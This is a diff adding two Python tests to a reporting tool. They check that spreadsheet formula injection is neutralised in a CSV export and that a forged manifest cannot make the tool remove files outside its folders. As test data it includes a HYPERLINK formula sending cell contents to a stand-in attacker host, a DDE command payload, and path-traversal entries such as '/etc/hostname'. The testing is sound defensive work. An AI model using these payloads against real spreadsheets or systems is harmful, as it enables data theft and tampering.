@@ -293,6 +293,50 @@ def test_store_labels_follow_the_metrics_encoders(tmp_path):
     assert labels.describe("gps", -1) == "-" and got["gps"][5] == -1  # latitude 91 is no position
 
 
+def test_clusters_csv_cells_never_run_as_formulas(tmp_path, metadata_store):
+    """Metadata text starting with = + - @ tab or CR is quoted for spreadsheets; numbers stay numbers."""
+    import csv
+
+    import pyarrow as pa
+
+    from dataengine.report.outputs import spreadsheet_safe
+
+    hostile = ['=HYPERLINK("http://attacker.example/?d="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3",
+               "@SUM(1+1)", "\tTAB", "\rCR", "-5", "-1.5e3", "plain", "a=b"]
+    table = pa.table({"key": [str(i) for i in range(len(hostile))], "user": hostile})
+    metadata_store(str(tmp_path / "s.zarr"), table, {"c": [np.arange(len(hostile))]})  # one cluster per user
+    out = tmp_path / "out"
+    run_report(ReportConfig(store=str(tmp_path / "s.zarr"), clustering="c", out=str(out), thumbnails=False))
+    with open(out / "clusters.csv", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    quoted = ["'" + value for value in hostile[:6]]
+    assert [row["user_dominant"] for row in rows] == [*quoted, "-5", "-1.5e3", "plain", "a=b"]
+    assert [row["cluster"] for row in rows] == [str(c) for c in range(len(hostile))]
+    assert [row["user_purity"] for row in rows] == ["1"] * len(hostile)
+    assert spreadsheet_safe(-3) == -3 and spreadsheet_safe(-0.25) == -0.25 and spreadsheet_safe("") == ""
+
+
+def test_a_report_replaces_another_reports_files_and_nothing_else(corpus, tmp_path):
+    """Another clustering's report in the folder: its grids go, the user's own files stay, and a forged
+    report.json cannot name files outside the report's folders."""
+    out = tmp_path / "out"
+    first = run_report(ReportConfig(store=corpus["store"], clustering="planted", out=str(out), block_rows=256))
+    (out / "notes.txt").write_text("mine")
+    (out / "grids" / "my-photo.png").write_bytes(b"mine")
+    second = run_report(ReportConfig(store=corpus["store"], clustering="random", out=str(out), block_rows=256))
+    old, new = {s.grid for s in first.selected}, {s.grid for s in second.selected}
+    assert old and new and not old & new
+    assert sorted(os.listdir(out / "grids")) == sorted([*(name.split("/")[1] for name in new), "my-photo.png"])
+    report = json.loads((out / "report.json").read_text())
+    assert report["files"] == sorted(new | set(report["plots"])) and (out / "notes.txt").read_text() == "mine"
+    outside = tmp_path / "outside.jpg"
+    outside.write_bytes(b"mine")
+    forged = dict(report, files=["../outside.jpg", "grids/../../outside.jpg", "/etc/hostname", "notes.txt"])
+    (out / "report.json").write_text(json.dumps(forged))
+    run_report(report_config(corpus, tmp_path, out=str(out)))
+    assert outside.read_bytes() == b"mine" and (out / "notes.txt").exists()
+
+
 # --------------------------------------------------------------------------------------------------- errors
 
 
